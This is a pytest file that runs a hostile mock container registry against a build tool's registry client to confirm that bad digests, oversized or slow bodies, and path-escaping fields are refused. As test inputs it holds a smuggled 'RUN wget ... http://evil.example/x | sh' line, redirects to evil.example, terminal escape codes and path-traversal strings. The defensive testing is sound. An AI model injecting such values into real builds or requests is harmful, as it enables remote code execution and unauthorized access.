"""A hostile registry, started by the test on a free loopback port, against the real client.

It answers manifests, indexes, blobs and tag lists with bad digests, newline digests, missing
fields, wrong types, huge bodies and slow answers. Every case ends within its time limit with a
clear FactoryError subclass naming the registry; the newline-digest case is refused by
`factory render` (and the pipeline's base lookup) before anything is built; gc and verify never
send a request whose path leaves the repository they mean.
"""

import hashlib
import json
import re
import shutil
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from click.testing import CliRunner

from factory.cli.main import main
from factory.errors import FactoryError, RegistryError, ServiceError
from factory.platforms import platform as lookup_platform
from factory.records.model import CompatibilityRecord, ImageInfo
from factory.records.retention import plan_gc
from factory.records.store import LocalRecordStore
from factory.registry.client import RegistryClient
from factory.registry.manifests import DOCKER_MANIFEST, OCI_INDEX, OCI_MANIFEST
from factory.supply_chain.verify import verify_build
from tests.unit.registry.test_hostile_registry import GOOD, entry

REPO = Path(__file__).resolve().parents[3]
REPOSITORY = "factory/base/busybox"
TAG = "1.35"
TIMEOUT_S = 1.0  # the client's per-read timeout; a whole answer gets 3x this
CASE_LIMIT_S = 10.0
NEWLINE_DIGEST = GOOD + "\nRUN wget -q -O- http://evil.example/x | sh"


class Hostile(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), Handler)
        self.routes: dict[tuple[str, str], object] = {}
        self.seen: list[tuple[str, str]] = []

    @property
    def address(self) -> str:
        return f"127.0.0.1:{self.server_address[1]}"


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args) -> None:  # quiet
        pass

    def _serve(self) -> None:
        self.server.seen.append((self.command, self.path))
        action = self.server.routes.get((self.command, self.path.split("?")[0]))
        if action is None:
            reply(self, 404, b'{"errors":[{"code":"NAME_UNKNOWN"}]}', "application/json")
            return
        try:
            action(self)
        except (BrokenPipeError, ConnectionResetError):
            pass

    do_GET = do_HEAD = do_DELETE = do_PUT = do_POST = _serve


def reply(h, status=200, body=b"", content_type=OCI_INDEX, headers=None, length=None) -> None:
    h.send_response(status)
    h.send_header("Content-Type", content_type)
    h.send_header("Content-Length", str(len(body) if length is None else length))
    for name, value in (headers or {}).items():
        h.send_header(name, value)
    h.end_headers()
    if h.command != "HEAD":
        h.wfile.write(body)


def answer(body, content_type=OCI_INDEX, status=200, headers=None):
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    return lambda h: reply(h, status, data, content_type, headers)


def index(*entries) -> dict:
    return {"schemaVersion": 2, "mediaType": OCI_INDEX, "manifests": list(entries)}


def huge_declared(h) -> None:
    reply(h, 200, b"{}", length=200 * 1024 * 1024)


def huge_chunked(h) -> None:
    h.send_response(200)
    h.send_header("Content-Type", OCI_INDEX)
    h.send_header("Connection", "close")
    h.end_headers()
    chunk = b" " * 65536
    for _ in range(128):  # 8 MiB, past the 4 MiB manifest cap, no Content-Length
        h.wfile.write(chunk)


def slow_body(h) -> None:
    h.send_response(200)
    h.send_header("Content-Type", OCI_INDEX)
    h.send_header("Content-Length", "100000")
    h.end_headers()
    for _ in range(200):  # one byte every 0.3 s: each read is quick, the whole never ends
        h.wfile.write(b" ")
        h.wfile.flush()
        time.sleep(0.3)


def slow_headers(h) -> None:
    time.sleep(TIMEOUT_S * 4)
    reply(h, 200, json.dumps(index(entry())).encode())


def hang_up(h) -> None:
    h.close_connection = True
    h.connection.shutdown(2)


def config_blob(os_name: str) -> tuple[bytes, str]:
    data = json.dumps({"architecture": "amd64", "os": os_name, "rootfs": {}}).encode()
    return data, "sha256:" + hashlib.sha256(data).hexdigest()


def image_manifest(config_digest, config_size=10) -> dict:
    return {
        "schemaVersion": 2,
        "mediaType": OCI_MANIFEST,
        "config": {"mediaType": "x", "size": config_size, "digest": config_digest},
        "layers": [],
    }


MANIFEST_PATH = f"/v2/{REPOSITORY}/manifests/{TAG}"

# name -> (routes, expected error class, text the message must contain)
PLATFORM_CASES = {
    "newline digest": (answer(index(entry(digest=NEWLINE_DIGEST))), RegistryError, ".digest"),
    "missing digest": (answer(index(entry(digest=...))), RegistryError, "manifests[0].digest"),
    "digest a number": (answer(index(entry(digest=7))), RegistryError, "manifests[0].digest"),
    "uppercase digest": (
        answer(index(entry(digest="sha256:" + "A" * 64))),
        RegistryError,
        ".digest",
    ),
    "entry a string": (answer(index("sha256:x")), RegistryError, "manifests[0] is not"),
    "unknown entry media type": (
        answer(index(entry(mediaType="text/html"))),
        RegistryError,
        ".mediaType",
    ),
    "negative size": (answer(index(entry(size=-5))), RegistryError, "manifests[0].size"),
    "size a string": (answer(index(entry(size="5"))), RegistryError, "manifests[0].size"),
    "platform os with newline": (
        answer(index(entry(platform={"os": "linux\n", "architecture": "amd64"}))),
        RegistryError,
        ".platform.os",
    ),
    "manifests not a list": (answer({"manifests": "all"}), RegistryError, "manifests is not"),
    "manifests missing": (answer({"mediaType": OCI_INDEX}), RegistryError, "manifests is not"),
    "not JSON": (answer(b"<html>", content_type=OCI_INDEX), RegistryError, "invalid JSON"),
    "JSON array": (answer(b"[1]"), RegistryError, "expected a JSON object"),
    "untyped manifest": (
        answer({"hello": 1}, content_type="text/html"),
        RegistryError,
        "is a text/html manifest, not a Docker v2 / OCI image",
    ),
    "media type a number": (
        answer({"mediaType": 5}, content_type="text/plain"),
        RegistryError,
        "untyped manifest",
    ),
    "huge declared body": (huge_declared, RegistryError, "more than 4194304 bytes"),
    "huge chunked body": (huge_chunked, RegistryError, "more than 4194304 bytes"),
    "slow body": (slow_body, ServiceError, "took too long"),
    "slow headers": (slow_headers, ServiceError, "does not answer"),
    "hangs up": (hang_up, ServiceError, "does not answer"),
    "server error with escapes": (
        answer(b"\x1b[2J\x1b]0;pwned\x07 oops", status=500),
        RegistryError,
        "HTTP 500",
    ),
    "redirect elsewhere": (
        answer(b"", status=302, headers={"Location": "http://evil.example/x"}),
        RegistryError,
        "HTTP 302",
    ),
    "config digest escapes": (
        answer(image_manifest("../../../v2/_catalog"), content_type=OCI_MANIFEST),
        RegistryError,
        "config.digest",
    ),
    "config size negative": (
        answer(image_manifest(GOOD, -1), content_type=OCI_MANIFEST),
        RegistryError,
        "config.size",
    ),
    "layers not a list": (
        answer({**image_manifest(GOOD), "layers": "x"}, content_type=OCI_MANIFEST),
        RegistryError,
        "layers",
    ),
}


@pytest.fixture
def hostile():
    server = Hostile()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


def no_control_characters(text: str) -> bool:
    return not any(ord(c) < 32 and c != "\n" for c in text) and "\x1b" not in text


@pytest.mark.parametrize("name", sorted(PLATFORM_CASES))
def test_hostile_answers_to_a_base_lookup_are_clear_errors(hostile, name):
    action, error, text = PLATFORM_CASES[name]
    hostile.routes[("GET", MANIFEST_PATH)] = action
    client = RegistryClient(hostile.address, timeout=TIMEOUT_S)
    started = time.monotonic()
    with pytest.raises(error) as caught:
        client.platform_digest(REPOSITORY, TAG, "linux/amd64")
    assert time.monotonic() - started < CASE_LIMIT_S
    message = str(caught.value)
    assert text in message
    assert hostile.address in message
    assert no_control_characters(message), message
    assert len(message) < 2000
    # No request ever left the repository it was about.
    assert all(path.startswith(f"/v2/{REPOSITORY}/") for _, path in hostile.seen), hostile.seen


def test_a_config_blob_with_a_newline_platform_is_refused(hostile):
    data, digest = config_blob("linux\nRUN evil")
    hostile.routes[("GET", MANIFEST_PATH)] = answer(
        image_manifest(digest, len(data)), content_type=OCI_MANIFEST
    )
    hostile.routes[("GET", f"/v2/{REPOSITORY}/blobs/{digest}")] = answer(data, "application/json")
    with pytest.raises(RegistryError, match=r"os is not a platform word"):
        RegistryClient(hostile.address, timeout=TIMEOUT_S).platforms(REPOSITORY, TAG)


def test_content_that_is_not_the_digest_asked_for_is_refused(hostile):
    hostile.routes[("GET", f"/v2/{REPOSITORY}/manifests/{GOOD}")] = answer(index(entry()))
    with pytest.raises(RegistryError, match="registry storage may be corrupt"):
        RegistryClient(hostile.address, timeout=TIMEOUT_S).get_manifest(REPOSITORY, GOOD)


HEAD_CASES = {
    "newline digest header": {"Docker-Content-Digest": NEWLINE_DIGEST.replace("\n", " ")},
    "short digest header": {"Docker-Content-Digest": "sha256:abc"},
    "digest header of another manifest": {"Docker-Content-Digest": "sha256:" + "b" * 64},
}


@pytest.mark.parametrize("name", sorted(HEAD_CASES))
def test_hostile_head_answers_are_clear_errors(hostile, name):
    headers = HEAD_CASES[name]
    path = f"/v2/{REPOSITORY}/manifests/{GOOD}"
    hostile.routes[("HEAD", path)] = lambda h: reply(
        h, 200, b"", DOCKER_MANIFEST, headers, length=527
    )
    with pytest.raises(RegistryError, match="Docker-Content-Digest header") as caught:
        RegistryClient(hostile.address, timeout=TIMEOUT_S).head_digest(REPOSITORY, GOOD)
    assert no_control_characters(str(caught.value))


TAGS_PATH = "/v2/factory/app/tags/list"


def tags(body):
    """A tags/list answer with this body."""
    return answer(body, "application/json")


def tags_page_linking_to(target: str):
    """A first page of tags whose Link header sends the client on to `target`."""
    return answer({"tags": ["a"]}, "application/json", headers={"Link": f'<{target}>; rel="next"'})


TAG_CASES = {
    "tag path escape": (tags({"tags": ["../../_catalog"]}), "tags[0]"),
    "tag with newline": (tags({"tags": ["v1\nRUN x"]}), "tags[0]"),
    "tag a number": (tags({"tags": [1]}), "tags[0]"),
    "tags a string": (tags({"tags": "latest"}), "tags is not a list"),
    "tags body not JSON": (tags(b"nope"), "invalid JSON"),
    "next page on another host": (
        tags_page_linking_to("http://evil.example/v2/x/tags/list"),
        "Link header",
    ),
    "next page elsewhere on this host": (tags_page_linking_to("/v2/_catalog?n=1"), "Link header"),
    "next page for ever": (tags_page_linking_to(f"{TAGS_PATH}?last=a"), "pages"),
}


@pytest.mark.parametrize("name", sorted(TAG_CASES))
def test_hostile_tag_lists_are_clear_errors(hostile, name):
    action, text = TAG_CASES[name]
    hostile.routes[("GET", TAGS_PATH)] = action
    started = time.monotonic()
    with pytest.raises(RegistryError) as caught:
        RegistryClient(hostile.address, timeout=TIMEOUT_S).list_tags("factory/app")
    assert time.monotonic() - started < 30
    assert text in str(caught.value)
    assert no_control_characters(str(caught.value))
    assert all(p.startswith(TAGS_PATH) for _, p in hostile.seen)


# -- before any build: render and the pipeline's base lookup --------------------------------------


def hostile_store(tmp_path: Path, address: str) -> Path:
    store = tmp_path / "store"
    shutil.copytree(REPO / "control_plane" / "data", store)
    manifest = json.loads((store / "manifest.json").read_text())
    manifest["bases"]["busybox"]["image"] = f"{address}/{REPOSITORY}"
    (store / "manifest.json").write_text(json.dumps(manifest))
    return store / "manifest.json"


def test_a_newline_digest_is_refused_before_rendering(hostile, tmp_path):
    hostile.routes[("GET", MANIFEST_PATH)] = answer(index(entry(digest=NEWLINE_DIGEST)))
    env = {
        "FACTORY_MANIFEST_STORE": str(hostile_store(tmp_path, hostile.address)),
        "FACTORY_DATA_DIR": str(tmp_path / "data"),
    }
    result = CliRunner().invoke(
        main, ["render", "--manifest-id", "batch_worker", "--platform", "linux/amd64"], env=env
    )
    assert result.exit_code == 1
    assert "manifests[0].digest is not a sha256:<64 hex> digest" in result.output
    assert "Traceback" not in result.output
    # The bad value is shown escaped on one line; nothing was rendered.
    assert "\nRUN" not in result.output and "FROM " not in result.output
    assert not (tmp_path / "data").exists()


def test_the_pipeline_base_lookup_refuses_a_newline_digest(hostile, tmp_path):
    from factory.build.pipeline import base_digest
    from factory.store.load import load_store

    hostile.routes[("GET", MANIFEST_PATH)] = answer(index(entry(digest=NEWLINE_DIGEST)))
    store = load_store(hostile_store(tmp_path, hostile.address))
    with pytest.raises(FactoryError, match=r"\.digest is not a sha256"):
        base_digest(store, "batch_worker", lookup_platform("linux/amd64"))


# -- gc and verify: URLs from record fields -------------------------------------------------------

# Per-repository requests, and gc's one fixed listing of the registry's repositories.
SAFE_PATH = re.compile(
    r"^(/v2/factory/[a-z0-9_-]+/(tags/list|manifests/[A-Za-z0-9_.:-]+)|/v2/_catalog\?n=1000)$"
)


def gc_record(manifest: str, n: int, **overrides) -> CompatibilityRecord:
    build_key = f"{n:02x}" * 32
    fields = {
        "build_id": f"b{n}",
        "manifest_id": manifest,
        "platform": "linux/amd64",
        "pool": "amd64",
        "status": "pass",
        "build_key": build_key,
        "record_key": build_key,
        "inputs": {},
        "image": ImageInfo(ref=f"127.0.0.1:1/factory/x:linux_amd64-{build_key[:12]}"),
        "started_at": "2020-01-01T00:00:00Z",
        "finished_at": "2020-01-01T00:00:00Z",
    }
    fields.update(overrides)
    return CompatibilityRecord(**fields)


GC_RECORDS = {
    "manifest id escapes": {"manifest_id": "../../v2/_catalog"},
    "manifest id percent-encoded": {"manifest_id": "%2e%2e"},
    "manifest id with a slash": {"manifest_id": "a/b"},
    "manifest id with a query": {"manifest_id": "a?n=1"},
    "build id with a slash": {"build_id": "../../etc/passwd"},
    "bad finished_at": {"finished_at": "not a time"},
    "image digest with newline": {
        "image": ImageInfo(ref="127.0.0.1:1/factory/x:t", digest=NEWLINE_DIGEST)
    },
}


@pytest.mark.parametrize("name", sorted(GC_RECORDS))
def test_gc_never_builds_a_url_from_a_bad_record(hostile, name):
    hostile.routes[("GET", "/v2/factory/good/tags/list")] = answer({"tags": []}, "application/json")
    records = [gc_record("good", 1), gc_record("good", 2, **GC_RECORDS[name])]
    plan = plan_gc(records, RegistryClient(hostile.address, timeout=TIMEOUT_S), keep=1)
    assert any("left out" in w for w in plan.warnings), plan.warnings
    assert hostile.seen and all(SAFE_PATH.match(p) for _, p in hostile.seen), hostile.seen
    assert all(no_control_characters(w) for w in plan.warnings)


@pytest.mark.parametrize("name", ["tag path escape", "release index with a newline digest"])
def test_gc_leaves_a_repository_alone_when_its_registry_answers_badly(hostile, name):
    tags = ["../../x"] if name == "tag path escape" else ["release-1"]
    hostile.routes[("GET", "/v2/factory/good/tags/list")] = answer({"tags": tags}, "x/json")
    hostile.routes[("GET", "/v2/factory/good/manifests/release-1")] = answer(
        index(entry(digest=NEWLINE_DIGEST))
    )
    plan = plan_gc([gc_record("good", 1)], RegistryClient(hostile.address, timeout=TIMEOUT_S))
    assert plan.deletions == []
    assert any("factory/good left alone" in w for w in plan.warnings), plan.warnings
    assert all(SAFE_PATH.match(p) for _, p in hostile.seen), hostile.seen


@pytest.mark.parametrize(
    "repository", ["../../v2/_catalog", "factory/%2e%2e/x", "factory//x", "Factory/x"]
)
def test_verify_does_not_look_up_an_image_ref_that_leaves_its_repository(
    hostile, tmp_path, repository
):
    store = LocalRecordStore(tmp_path / "data")
    build_id = "0b6c1f2e-7a1d-4f55-9a51-3c1f0c2b9e10"
    record = gc_record(
        "good",
        1,
        build_id=build_id,
        image=ImageInfo(ref=f"{hostile.address}/{repository}:latest", digest=GOOD),
    )
    store.write_record(record)
    report = verify_build(build_id, store)
    assert not report.ok
    # Refused as a record (`%` is no image ref) or when looking it up: never requested.
    failed = {c.name: c.detail for c in report.failed}
    assert "could not look up" in failed.get("registry", "") or "image.ref" in failed.get(
        "record", ""
    ), failed
    assert hostile.seen == []
